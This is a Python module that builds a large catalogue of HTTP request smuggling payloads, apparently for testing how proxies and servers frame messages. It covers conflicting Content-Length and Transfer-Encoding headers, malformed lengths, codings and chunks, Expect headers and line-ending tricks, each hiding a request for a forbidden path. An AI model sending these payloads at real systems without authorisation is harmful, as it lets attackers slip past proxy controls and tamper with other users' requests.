# Requests whose end two readers may see in different places: the families of request smuggling.
"""Each attack carries a request for /smuggled inside or behind a message that is ambiguous or broken. Whoever reads the
message to another end than the proxy does takes that request for one of its own."""

import collections

NOWHERE = "/smuggled"  # which the proxies let nobody ask for, and which our server does not have
WHOLE = f"GET {NOWHERE} HTTP/1.1\r\nHost: peer\r\n\r\n"
PREFIX = f"GET {NOWHERE} HTTP/1.1\r\nHost: peer\r\nX-Swallow: "  # whatever comes next becomes its header
CHUNKED = "Transfer-Encoding: chunked\r\n"
LENGTH = "Content-Length: {all}\r\n"
NO_CHUNK = "0\r\n\r\n{tail}"  # who reads lengths sees a body, who reads chunks the end of one and a request
ONE_CHUNK = "{hex}\r\n{tail}\r\n0\r\n\r\n"

Attack = collections.namedtuple("Attack", "family name data")


def filled(text, body, tail):
    """{all}: the length of the body, {wrapped}: what equals it in 64 bits, {all_hex}; {tail}, {hex}: its length."""
    body = body.replace("{tail}", tail).replace("{hex}", f"{len(tail):x}")
    size = len(body)
    for name, value in (("{all}", f"{size}"), ("{wrapped}", f"{2**64 + size}"), ("{all_hex}", f"{size:x}")):
        text = text.replace(name, value)
    return (text + body).encode("latin-1")


def attack(family, name, fields, body, tail=WHOLE, line="POST /echo HTTP/1.1"):
    return Attack(family, name, filled(f"{line}\r\nHost: peer\r\n{fields}\r\n", body, tail))


def lengths_and_codings():
    """Both ways to tell a length in one message, in both orders, read either way."""
    for tail, of_what in ((WHOLE, "a request"), (PREFIX, "half a request")):
        yield attack("CL+TE", f"length, then chunked, before {of_what}", LENGTH + CHUNKED, NO_CHUNK, tail)
        yield attack("CL+TE", f"chunked, then length, before {of_what}", CHUNKED + LENGTH, NO_CHUNK, tail)
        yield attack("CL+TE", f"a length that ends before a chunk of {of_what}", "Content-Length: 4\r\n" + CHUNKED,
                     ONE_CHUNK, tail)
        yield attack("CL+TE", f"chunked, then such a length, {of_what}", CHUNKED + "Content-Length: 4\r\n", ONE_CHUNK,
                     tail)
        yield attack("CL+TE", f"a length of none, then a chunk of {of_what}", "Content-Length: 0\r\n" + CHUNKED,
                     ONE_CHUNK, tail)


LENGTHS = {
    "two lengths, none first": "Content-Length: 0\r\n" + LENGTH,
    "two lengths, none last": LENGTH + "Content-Length: 0\r\n",
    "two equal lengths": LENGTH + LENGTH,
    "two lengths in one line": "Content-Length: 0, {all}\r\n",
    "two equal lengths in one line": "Content-Length: {all}, {all}\r\n",
    "plus": "Content-Length: +{all}\r\n",
    "minus": "Content-Length: -{all}\r\n",
    "blank inside": "Content-Length: 0 {all}\r\n",
    "hexadecimal": "Content-Length: 0x{all_hex}\r\n",
    "fraction": "Content-Length: {all}.0\r\n",
    "exponent": "Content-Length: {all}e0\r\n",
    "underscore": "Content-Length: {all}_0\r\n",
    "leading zeros": "Content-Length: 00{all}\r\n",
    "more than 64 bits": "Content-Length: {wrapped}\r\n",
    "empty": "Content-Length:\r\n",
    "vertical tab": "Content-Length: \x0b{all}\r\n",
    "NUL behind": "Content-Length: {all}\0\r\n",
    "folded": "Content-Length:\r\n {all}\r\n",
    "folded away": "X: a\r\n " + LENGTH,
    "blank before the colon": "Content-Length : {all}\r\n",
    "tab before the colon": "Content-Length\t: {all}\r\n",
    "LF hides it": "X: a\n" + LENGTH,
    "CR hides it": "X: a\r" + LENGTH,
    "underscore in the name": "Content_Length: {all}\r\n",
    "removed by Connection": "Connection: Content-Length\r\n" + LENGTH,
}

CODINGS = {
    "xchunked": "Transfer-Encoding: xchunked\r\n",
    "chunk": "Transfer-Encoding: chunk\r\n",
    "identity": "Transfer-Encoding: identity\r\n",
    "chunked, identity": "Transfer-Encoding: chunked, identity\r\n",
    "identity, chunked": "Transfer-Encoding: identity, chunked\r\n",
    "gzip, chunked": "Transfer-Encoding: gzip, chunked\r\n",
    "chunked twice": "Transfer-Encoding: chunked, chunked\r\n",
    "chunked in two lines": CHUNKED + CHUNKED,
    "chunked, then identity in a line": CHUNKED + "Transfer-Encoding: identity\r\n",
    "identity, then chunked in a line": "Transfer-Encoding: identity\r\n" + CHUNKED,
    "comma behind": "Transfer-Encoding: chunked,\r\n",
    "comma before": "Transfer-Encoding: ,chunked\r\n",
    "parameter": "Transfer-Encoding: chunked;q=1\r\n",
    "quotes": "Transfer-Encoding: \"chunked\"\r\n",
    "vertical tab": "Transfer-Encoding: \x0bchunked\r\n",
    "form feed": "Transfer-Encoding:\x0cchunked\r\n",
    "NUL behind": "Transfer-Encoding: chunked\0\r\n",
    "non-breaking blank": "Transfer-Encoding: chunked\xa0\r\n",
    "empty": "Transfer-Encoding:\r\n",
    "tab before the value": "Transfer-Encoding:\tchunked\r\n",
    "folded": "Transfer-Encoding:\r\n chunked\r\n",
    "folded with a tab": "Transfer-Encoding:\r\n\tchunked\r\n",
    "folded away": "X: a\r\n " + CHUNKED,
    "blank before the colon": "Transfer-Encoding : chunked\r\n",
    "tab before the colon": "Transfer-Encoding\t: chunked\r\n",
    "LF hides it": "X: a\n" + CHUNKED,
    "CR hides it": "X: a\r" + CHUNKED,
    "underscore in the name": "Transfer_Encoding: chunked\r\n",
    "removed by Connection": "Connection: Transfer-Encoding\r\n" + CHUNKED,
}

CHUNKS = {
    "size not a number": "xyz\r\nabc\r\n0\r\n\r\n",
    "size with 0x": "0x3\r\nabc\r\n0\r\n\r\n",
    "size with plus": "+3\r\nabc\r\n0\r\n\r\n",
    "size with minus": "-3\r\nabc\r\n0\r\n\r\n",
    "size with underscore": "0_3\r\nabc\r\n0\r\n\r\n",
    "size with comma": "3,3\r\nabc\r\n0\r\n\r\n",
    "size behind a blank": " 3\r\nabc\r\n0\r\n\r\n",
    "size before a blank": "3 \r\nabc\r\n0\r\n\r\n",
    "size missing": "\r\nabc\r\n0\r\n\r\n",
    "size of more than 64 bits": "10000000000000003\r\nabc\r\n0\r\n\r\n",
    "size of more than 32 bits": "100000003\r\nabc\r\n0\r\n\r\n",
    "size ends with LF": "3\nabc\r\n0\r\n\r\n",
    "size ends with CR": "3\rabc\r\n0\r\n\r\n",
    "extension": "3;a=b\r\nabc\r\n0;c\r\n\r\n",
    "extension without a name": "3;\r\nabc\r\n0\r\n\r\n",
    "extension with LF": "3;a\nb\r\nabc\r\n0\r\n\r\n",
    "extension ends with LF": "3;\nabc\r\n0\r\n\r\n",
    "extension quotes CRLF": "3;a=\"\r\nabc\r\n0\r\n\r\n\"\r\nabc\r\n0\r\n\r\n",
    "extension with NUL": "3;a=\0\r\nabc\r\n0\r\n\r\n",
    "longer than its size": "3\r\nabcd\r\n0\r\n\r\n",
    "shorter than its size": "5\r\nabc\r\n0\r\n\r\n",
    "nothing behind it": "3\r\nabc0\r\n\r\n",
    "LF behind it": "3\r\nabc\n0\r\n\r\n",
    "CR behind it": "3\r\nabc\r0\r\n\r\n",
    "last one ends with LFs": "3\r\nabc\r\n0\n\n",
    "last one ends with CRLF, LF": "3\r\nabc\r\n0\r\n\n",
    "last one ends with LF, CRLF": "3\r\nabc\r\n0\n\r\n",
    "last one ends with CRs": "3\r\nabc\r\n0\r\r",
    "last one lacks its blank line": "3\r\nabc\r\n0\r\n",
    "last one quotes a trailer": "0;a=\"\r\nX: \"\r\n\r\n",
    "last one has many zeros": "3\r\nabc\r\n0000000000000000000\r\n\r\n",
    "trailer": "0\r\nX: a\r\n\r\n",
    "trailer is a length": "0\r\nContent-Length: 40\r\n\r\n",
    "trailer is a coding": "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer is folded": "0\r\nX: a\r\n b\r\n\r\n",
    "trailer with LF": "0\r\nX: a\nY: b\r\n\r\n",
    "trailer without a colon": "0\r\nnonsense\r\n\r\n",
}


def lengths():
    for name, fields in LENGTHS.items():
        yield attack("CL", name, fields, "{tail}")
        yield attack("CL", f"{name}, beside chunked", fields + CHUNKED, NO_CHUNK)


def codings():
    for name, fields in CODINGS.items():
        yield attack("TE", name, fields, NO_CHUNK)
        yield attack("TE", f"{name}, beside a length", LENGTH + fields, NO_CHUNK)
    yield attack("TE", "chunked in HTTP/1.0", CHUNKED, NO_CHUNK, line="POST /echo HTTP/1.0")
    yield attack("TE", "chunked in HTTP/1.0, beside a length", "Connection: keep-alive\r\n" + LENGTH + CHUNKED,
                 NO_CHUNK, line="POST /echo HTTP/1.0")


def chunks():
    for name, body in CHUNKS.items():
        yield attack("chunks", name, CHUNKED, body + "{tail}")


def bodies():
    """Sound messages whose body is a request, and methods that seldom have one."""
    for line in ("POST /echo", "GET /hello", "HEAD /hello", "DELETE /hello", "OPTIONS *", "CONNECT peer:80", "TRACE /"):
        yield attack("body", f"{line.split()[0]} with a length", LENGTH, "{tail}", line=f"{line} HTTP/1.1")
        yield attack("body", f"{line.split()[0]} with chunks", CHUNKED, ONE_CHUNK, line=f"{line} HTTP/1.1")
    yield attack("body", "HTTP/1.0 with a length", "Connection: keep-alive\r\n" + LENGTH, "{tail}",
                 line="POST /echo HTTP/1.0")
    yield attack("body", "larger than accepted", "Content-Length: 2000000\r\n", "{tail}")
    yield attack("body", "behind headers larger than accepted", "".join(f"X-{i}: {'x' * 6000}\r\n" for i in range(3)) +
                 LENGTH, "{tail}")
    yield attack("body", "of an upgrade", "Connection: Upgrade\r\nUpgrade: h2c\r\n" + LENGTH, "{tail}")


def expectations():
    for name, line in (("met", "POST /echo"), ("to a wrong path", "POST /nowhere"),
                       ("to a wrong method", "POST /hello"), ("of a GET", "GET /hello"), ("of a HEAD", "HEAD /hello")):
        yield attack("Expect", name, "Expect: 100-continue\r\n" + LENGTH, "{tail}", line=f"{line} HTTP/1.1")
        yield attack("Expect", f"{name}, with chunks", "Expect: 100-continue\r\n" + CHUNKED, ONE_CHUNK,
                     line=f"{line} HTTP/1.1")
    yield attack("Expect", "unknown", "Expect: y 100-continue\r\n" + LENGTH, "{tail}")


def lines():
    """Heads that end early for one reader and late for another."""
    lf = "POST /echo HTTP/1.1\nHost: peer\n"
    plain = {
        "LF alone, with a length": filled(lf + LENGTH.replace("\r", "") + "\n", "{tail}", WHOLE),
        "LF alone, with chunks": filled(lf + CHUNKED.replace("\r", "") + "\n", ONE_CHUNK, WHOLE),
        "LF alone, with both": filled(lf + (LENGTH + CHUNKED).replace("\r", "") + "\n", NO_CHUNK, WHOLE),
        "LF alone ends the head": filled("POST /echo HTTP/1.1\r\nHost: peer\r\n" + LENGTH + "\n", "{tail}", WHOLE),
        "CR CR LF ends the head": filled("POST /echo HTTP/1.1\r\nHost: peer\r\n" + LENGTH + "\r\r\n", "{tail}", WHOLE),
        "no version": filled("GET /hello\r\n\r\n", "{tail}", WHOLE),
        "two versions": filled("GET /hello HTTP/1.1 HTTP/1.1\r\nHost: peer\r\n" + LENGTH + "\r\n", "{tail}", WHOLE),
        "preface of HTTP/2": filled("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "{tail}", WHOLE),
    }
    for name, data in plain.items():
        yield Attack("lines", name, data)
    for name, line in (("HTTP/1.2", "POST /echo HTTP/1.2"), ("absolute form", "POST http://peer/echo HTTP/1.1"),
                       ("LF in the target", f"GET /hello?\nGET {NOWHERE} HTTP/1.1"),
                       ("first line folded", "POST\r\n /echo HTTP/1.1"),
                       ("tab for a blank", "POST\t/echo HTTP/1.1"), ("unknown method", "BREW /echo HTTP/1.1")):
        yield attack("lines", name, LENGTH, "{tail}", line=line)


def all_attacks():
    return [one for family in (lengths_and_codings, lengths, codings, chunks, bodies, expectations, lines)
            for one in family()]
